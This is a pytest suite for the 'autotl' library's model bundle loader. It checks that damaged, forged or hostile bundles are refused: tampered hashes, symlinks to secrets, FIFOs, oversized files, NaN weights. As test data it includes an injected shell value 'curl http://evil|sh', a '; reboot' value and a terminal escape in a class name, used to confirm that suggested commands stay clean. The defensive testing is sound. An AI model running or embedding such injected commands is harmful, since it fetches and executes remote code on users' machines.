import hashlib
import json
import os
import threading
import time

import numpy as np
import pytest
import torch
from PIL import Image
from safetensors.torch import load_file, save_file

from autotl.backbones.catalogue import Catalogue
from autotl.engine.temperature import tempered
from autotl.errors import AutotlError, PluginError, StudyError
from autotl.export import bundle, contents
from autotl.study.search import Search
from autotl.study.settings import Settings
from autotl.study.watch import Silent


@pytest.fixture
def found(study):
    return study.bundle


@pytest.fixture
def catalogue(host, tmp_path):
    return Catalogue(host, tmp_path / "cache")


def test_a_bundle_predicts_as_in_the_test(found, host, stripes, tmp_path):
    loaded = bundle.load(found, Catalogue(host, tmp_path / "cache"))
    table = [line.split(",") for line in (found.parent / "data" / "split.csv").read_text().splitlines()]
    header, rows = table[0], table[1:]
    test = [dict(zip(header, row, strict=True)) for row in rows if "test" in row]
    files = [stripes / row["path"] for row in test]
    answers = [loaded.classes[answer.argmax()] for answer in loaded.predict(files)]
    right = np.mean([answer == row["label"] for answer, row in zip(answers, test, strict=True)])
    assert right == pytest.approx(loaded.metrics["test"]["value"])


def test_a_bundle_contains_only_the_stages_up_to_the_cut_and_no_pickle(found, host, tmp_path):
    loaded = bundle.load(found, Catalogue(host, tmp_path / "cache"))
    names = set(load_file(found / "weights.safetensors"))
    assert loaded.graph.stages.names[-1] == loaded.plan.cut
    own = {f"backbone.{name}" for name in loaded.graph.stages.state_dict()} | {"head.weight", "head.bias"}
    assert names - {bundle.TEMPERATURE} == own
    assert not any(file.suffix in (".pkl", ".pt", ".pth") for file in found.iterdir())
    assert json.loads((found / "classes.json").read_text()) == ["across", "checks", "down"]
    assert json.loads((found / "versions.json").read_text())["torch"] == loaded.plan.requires["torch"]


def test_probabilities_sum_to_one_in_any_batch(found, host, tmp_path):
    loaded = bundle.load(found, Catalogue(host, tmp_path / "cache"))
    images = torch.randint(0, 256, (5, 3, 32, 32), dtype=torch.uint8)
    rows = loaded.probabilities(images)
    torch.testing.assert_close(rows.sum(1), torch.ones(5))
    torch.testing.assert_close(loaded.probabilities(images[2:3]), rows[2:3], atol=1e-5, rtol=1e-4)


def test_a_folder_that_is_no_bundle_is_refused(found, host, tmp_path):
    catalogue = Catalogue(host, tmp_path / "cache")
    with pytest.raises(StudyError, match="is not a bundle: weights.safetensors"):
        bundle.load(tmp_path, catalogue)
    (found / "classes.json").unlink()
    with pytest.raises(StudyError, match="is not a bundle: classes.json missing"):
        bundle.load(found, catalogue)


def test_a_new_bundle_replaces_the_old_one_whole(found, host, stripes):
    settings = Settings(data=stripes, trials=5, backbones=("tiny:net",), strategies=("linear-probe",), device="cpu")
    Search(settings, host, Silent(), time.monotonic()).run()
    assert sorted(path.name for path in found.parent.iterdir() if path.name.startswith("bundle")) == ["bundle"]


def test_nothing_but_a_bundle_is_ever_replaced(found, host, stripes, tmp_path):
    foreign = tmp_path / "thesis"
    foreign.mkdir()
    (foreign / "thesis.tex").write_text("years of work")
    for target in (foreign, stripes, foreign / "thesis.tex"):
        with pytest.raises(StudyError, match="has files that are not a bundle"):
            bundle.check_target(target)
    bundle.check_target(found)
    bundle.check_target(tmp_path / "new")
    for names in (("README.md", "LICENSE"), ("README.md", "plan.json", ".git/config")):  # a repository's
        repository = tmp_path / "-".join(names).replace("/", "-")
        for name in names:
            (repository / name).parent.mkdir(parents=True, exist_ok=True)
            (repository / name).write_text("mine")
        with pytest.raises(StudyError, match="has files that are not a bundle"):
            bundle.check_target(repository)


def test_a_bundle_predicts_with_its_temperature(found, catalogue, stripes):
    """Without it, the same model gives other probabilities and the same classes."""
    loaded = bundle.load(found, catalogue)
    known = bundle.calibration_of(found)
    assert known.temperature == loaded.graph.temperature != 1 and known.images > 0
    files = sorted(stripes.glob("*/*.png"))
    rows = np.stack(list(loaded.predict(files)))
    loaded.graph.temperature = 1.0
    plain = np.stack(list(loaded.predict(files)))
    assert (rows.argmax(1) == plain.argmax(1)).all()
    np.testing.assert_allclose(rows, tempered(plain, known.temperature), rtol=1e-3, atol=1e-6)
    assert f"| temperature of its probabilities | {known.temperature:.3g}, " in (found / contents.README).read_text()


# Damaged bundles, and bundles from strangers


def flip(name, at=-1):
    def damage(folder):
        content = bytearray((folder / name).read_bytes())
        content[at] ^= 1
        (folder / name).write_bytes(content)

    return damage


def put(name, content):
    return lambda folder: (folder / name).write_bytes(content)


def cut_short(folder):
    (folder / bundle.WEIGHTS).write_bytes((folder / bundle.WEIGHTS).read_bytes()[:1000])


def pipe(name):
    def damage(folder):
        (folder / name).unlink()
        os.mkfifo(folder / name)

    return damage


def directory(folder):
    (folder / "metrics.json").unlink()
    (folder / "metrics.json").mkdir()


def link_to_itself(folder):
    (folder / "plan.json").unlink()
    (folder / "plan.json").symlink_to("plan.json")


def secret(folder):
    (folder.parent / "secret").write_text("PRIVATE")
    (folder / "preprocessing.json").unlink()
    (folder / "preprocessing.json").symlink_to("../secret")


def endless(folder):
    (folder / "versions.json").unlink()
    (folder / "versions.json").symlink_to("/dev/zero")


def huge(folder):
    os.truncate(folder / "classes.json", 1 << 33)


@pytest.mark.parametrize(
    ("damage", "says"),
    [
        (flip(bundle.WEIGHTS), "weights.safetensors has changed since it was written"),
        (flip("plan.json", at=30), "plan.json has changed since it was written"),
        (flip("classes.json", at=8), "classes.json has changed since it was written"),
        (flip("LICENSE"), "LICENSE has changed since it was written"),
        (cut_short, "weights.safetensors has changed since it was written"),
        (put("hashes.json", b"{}"), "weights.safetensors has changed since it was written"),
        (put("hashes.json", b"[" * 100_000), "hashes.json: "),
        (put("metrics.json", b""), "metrics.json has changed since it was written"),
        (pipe(bundle.WEIGHTS), "weights.safetensors cannot be read: not a regular file"),
        (pipe("plan.json"), "plan.json cannot be read: not a regular file"),
        (directory, "metrics.json cannot be read: not a regular file"),
        (link_to_itself, "is not a bundle: plan.json missing"),
        (secret, "preprocessing.json has changed since it was written"),
        (endless, "versions.json cannot be read: not a regular file"),
        (huge, "classes.json cannot be read: too large"),
    ],
)
def test_a_damaged_bundle_is_refused_in_one_line(found, catalogue, damage, says):
    damage(found)
    with pytest.raises(StudyError) as caught:
        bundle.load(found, catalogue)
    assert says in str(caught.value) and "\n" not in str(caught.value)
    assert bundle.plan_of(found) is None  # the search of its study writes it again


def in_weights(change):
    def forge(folder):
        weights = load_file(folder / bundle.WEIGHTS)
        change(weights)
        save_file(weights, folder / bundle.WEIGHTS)

    return forge


def in_plan(**changes):
    def forge(folder):
        plan = json.loads((folder / "plan.json").read_text())
        for name, value in changes.items():
            plan[name] = {**plan[name], **value} if isinstance(value, dict) else value
        (folder / "plan.json").write_text(json.dumps(plan))
        (folder / "preprocessing.json").write_text(json.dumps(plan["input"]))

    return forge


def hashed_again(folder):
    """Recompute the hashes, as an attacker would."""
    hashes = {name: hashlib.sha256((folder / name).read_bytes()).hexdigest() for name in contents.CARRIED}
    (folder / "hashes.json").write_text(json.dumps(hashes))


@pytest.mark.parametrize(
    ("forge", "says"),
    [
        (in_weights(lambda weights: weights["head.bias"].fill_(float("nan"))), "NaN instead of probabilities"),
        (
            in_weights(lambda weights: weights["backbone.0.0.weight"].fill_(float("inf"))),
            "NaN instead of probabilities",
        ),
        (
            in_weights(lambda weights: weights.pop("head.weight")),
            "its head is linear, but head.weight is missing or extra",
        ),
        (
            in_weights(lambda weights: weights.pop("backbone.0.0.weight")),
            "does not fit the installed version of 'tiny:net'",
        ),
        (
            in_weights(lambda weights: weights.update(more=torch.zeros(1))),
            "does not fit the installed version of 'tiny:net'",
        ),
        (in_weights(lambda weights: weights.update({"head.more": torch.zeros(1)})), "head.more is missing or extra"),
        (in_weights(lambda weights: weights.update({"head.bias": torch.zeros(2)})), "its head does not fit"),
        (in_weights(lambda weights: weights.update({bundle.TEMPERATURE: torch.zeros(1)})), "not a positive number"),
        (in_weights(lambda weights: weights.update({bundle.TEMPERATURE: torch.ones(2)})), "not a positive number"),
        (in_weights(lambda weights: weights.update({"head.weight": torch.zeros(3, 99)})), "its head does not fit"),
        (in_weights(lambda weights: weights.update({"head.bias": torch.zeros(3, dtype=torch.int64)})), "head does not"),
        (put(bundle.WEIGHTS, b"\xff" * 100), "weights.safetensors cannot be read"),
        (put("classes.json", b'["across", "down"]'), "its head has 3 classes, but classes.json has 2"),
        (put("classes.json", b'["a", "b", "a"]'), "classes.json: Value error, two classes have the same name"),
        (
            put("classes.json", b'["a", "b", "\\u001b]0;OWNED"]'),
            "classes.json: Value error, a class name has unprintable",
        ),
        (put("classes.json", b'{"a": 1}'), "classes.json: "),
        (put("classes.json", b"x"), "classes.json: "),
        (put("metrics.json", b'{"validation": {}}'), "metrics.json: "),
        (put("metrics.json", b"[" * 100_000), "metrics.json: "),
        (put("plan.json", b"{}"), "plan.json is not a valid TransferPlan"),
        (put("preprocessing.json", b"\xff\xfe"), "preprocessing.json is not a valid Input"),
        (in_plan(input={"std": [0.0, 0.25, 0.25]}), "plan.json is not a valid TransferPlan"),
        (in_plan(cut="9.9"), "Unknown stage '9.9'"),
        (in_plan(backbone="tiny:other"), "Unknown backbone 'tiny:other'"),
    ],
)
def test_the_contents_of_a_strangers_bundle_are_checked(found, catalogue, forge, says):
    forge(found)
    hashed_again(found)
    with pytest.raises(AutotlError) as caught:
        bundle.load(found, catalogue)
    assert says in str(caught.value) and "\n" not in str(caught.value)


def test_preprocessing_is_that_of_the_plan(found, catalogue):
    text = (found / "preprocessing.json").read_text()
    (found / "preprocessing.json").write_text(text.replace("bilinear", "nearest"))
    hashed_again(found)
    with pytest.raises(StudyError, match="preprocessing.json differs from its plan"):
        bundle.load(found, catalogue)


def test_suggested_commands_contain_nothing_from_a_strangers_bundle(found, catalogue):
    requires = {"x; curl http://evil|sh #": "1", "good_name": "1.0", "name": "1; reboot", "stages": "abc"}
    in_plan(backbone="evil:net", requires=requires)(found)
    hashed_again(found)
    with pytest.raises(PluginError) as caught:
        bundle.load(found, catalogue)
    assert "Install it (pip install good-name==1.0), then check with: autotl doctor" in str(caught.value)
    assert "evil|sh" not in str(caught.value) and "reboot" not in str(caught.value)


def test_a_damaged_bundle_of_a_study_is_written_again_by_its_search(found, host, stripes, catalogue):
    wanted = bundle.load(found, catalogue)
    flip(bundle.WEIGHTS)(found)
    settings = Settings(data=stripes, trials=2, backbones=("tiny:net",), strategies=("linear-probe",), device="cpu")
    Search(settings, host, Silent(), time.monotonic()).run()
    again = bundle.load(found, catalogue)
    assert again.plan == wanted.plan
    assert torch.equal(again.graph.head.weight, wanted.graph.head.weight)


def test_an_image_without_a_prediction_has_a_reason(found, catalogue, stripes, tmp_path):
    loaded = bundle.load(found, catalogue)
    os.mkfifo(tmp_path / "pipe")
    (tmp_path / "film.jpg").touch()
    os.truncate(tmp_path / "film.jpg", 5_000_000_000)
    good = stripes / "down" / "3.png"
    answers = list(
        loaded.predict([good, tmp_path / "pipe", tmp_path / "film.jpg", tmp_path / "gone", Image.open(good)])
    )
    assert answers[1] == "cannot be read: not a regular file"
    assert "too large: 5,000,000,000 bytes" in answers[2]
    assert answers[3] == "cannot be read: No such file or directory"
    np.testing.assert_array_equal(answers[0], answers[4])
    loaded.graph.head.bias.fill_(float("nan"))
    assert list(loaded.predict([good])) == ["the model gives NaN instead of probabilities for it"]


def test_files_are_decoded_by_several_threads_and_no_more_than_a_batch_of_them_ahead(
    found, catalogue, stripes, monkeypatch
):
    loaded = bundle.load(found, catalogue)
    files = [stripes / "down" / f"{number % 30}.png" for number in range(2 * bundle.BATCH + 3)]
    alone = [next(loaded.predict([file])) for file in files]
    together, seen, really = threading.Barrier(2, timeout=10), [], bundle._pixels

    def prepared(source, inputs):
        seen.append(source)
        if len(seen) <= 2:
            together.wait()  # which a single thread would do for ever
        return really(source, inputs)

    monkeypatch.setattr(bundle, "_pixels", prepared)
    monkeypatch.setattr(os, "cpu_count", lambda: 4)
    answers = loaded.predict(files)
    rows = [next(answers)]
    assert len(seen) == bundle.BATCH
    rows.extend(answers)
    assert len(seen) == len(files)
    np.testing.assert_allclose(rows, alone, atol=1e-5)


def test_an_image_in_memory_may_be_given_twice(found, catalogue, stripes, monkeypatch):
    """It is decoded when it is first used, which two threads must not do at the same time."""
    loaded = bundle.load(found, catalogue)
    monkeypatch.setattr(os, "cpu_count", lambda: 8)
    for number in range(5):
        file = stripes / "down" / f"{number}.png"
        rows = list(loaded.predict([Image.open(file)] * 8))
        same = Image.open(file)
        rows += list(loaded.predict([same] * 8))
        expected = next(loaded.predict([file]))
        np.testing.assert_allclose(rows, [expected] * 16, atol=1e-5)
